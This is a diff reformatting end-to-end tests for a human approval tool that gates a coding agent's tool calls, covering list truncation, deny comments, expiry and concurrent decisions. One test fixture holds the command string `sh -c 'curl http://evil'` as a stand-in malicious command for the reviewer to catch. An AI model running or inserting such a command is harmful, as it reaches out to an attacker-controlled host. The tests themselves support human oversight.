@@ -62,7 +62,7 @@ describe('local approvals, end to end without claude', function () {
     expect((await sandbox.cli(['approvals', 'approve', 'does-not-exist'])).exitCode).to.equal(4)
   })
 
-  it('approvals list shows an approval whose input is 4 MB as one cut row, its command\'s end in sight', async () => {
+  it("approvals list shows an approval whose input is 4 MB as one cut row, its command's end in sight", async () => {
     const command = `echo ${'x'.repeat(4 * 1024 * 1024)} | sh -c 'curl http://evil'`
     const client = await sandbox.client()
     let big: string
@@ -86,7 +86,7 @@ describe('local approvals, end to end without claude', function () {
     expect(list.stdout).to.contain('marks N characters left out')
   })
 
-  it('deny hands the reviewer\'s comment to claude, and the tool does not run', async () => {
+  it("deny hands the reviewer's comment to claude, and the tool does not run", async () => {
     const cwd = path.join(sandbox.root, 'work')
     const claude = runFakeClaude(sandbox, {runId: 'run-0001', cwd})
     const approval = await waitForApproval(sandbox, (list) => list[0])
@@ -127,7 +127,9 @@ describe('local approvals, end to end without claude', function () {
     expect(toolResult?.content).to.contain('Expired')
     expect(existsSync(path.join(cwd, 'marker.txt'))).to.equal(false)
     const shown = await sandbox.cli(['approvals', 'list', '--all', '--json'])
-    expect(Sandbox.json<{approvals: {id: string; status: string}[]}>(shown).approvals.find((a) => a.id === approval.id)?.status).to.equal('expired')
+    expect(Sandbox.json<{approvals: {id: string; status: string}[]}>(shown).approvals.find((a) => a.id === approval.id)?.status).to.equal(
+      'expired',
+    )
   })
 
   it('lets exactly one of two concurrent decisions win', async () => {
@@ -156,7 +158,9 @@ describe('local approvals, end to end without claude', function () {
     try {
       const noComment = (await client.call(SendDecision, {approval_id: approval.id, decision: 'deny'}).catch((e: unknown) => e)) as RpcError
       expect(noComment.code).to.equal(ErrorCode.InvalidParams)
-      expect(noComment.data).to.deep.equal({fields: [{path: 'comment', message: 'comment is required for deny: say why, the agent reads it'}]})
+      expect(noComment.data).to.deep.equal({
+        fields: [{path: 'comment', message: 'comment is required for deny: say why, the agent reads it'}],
+      })
       const unknown = (await client.call(SendDecision, {approval_id: 'nope', decision: 'approve'}).catch((e: unknown) => e)) as RpcError
       expect(unknown.code).to.equal(ErrorCode.NotFound)
       await client.call(SendDecision, {approval_id: approval.id, decision: 'approve'})
@@ -169,7 +173,9 @@ describe('local approvals, end to end without claude', function () {
     }
     await claude
     const filtered = await sandbox.cli(['approvals', 'list', '--session', 'sess-0001', '--all', '--json'])
-    expect(Sandbox.json<{approvals: {id: string; status: string}[]}>(filtered).approvals.map((a) => [a.id, a.status])).to.deep.equal([[approval.id, 'approved']])
+    expect(Sandbox.json<{approvals: {id: string; status: string}[]}>(filtered).approvals.map((a) => [a.id, a.status])).to.deep.equal([
+      [approval.id, 'approved'],
+    ])
   })
 
   describe('the MCP server on its own', () => {
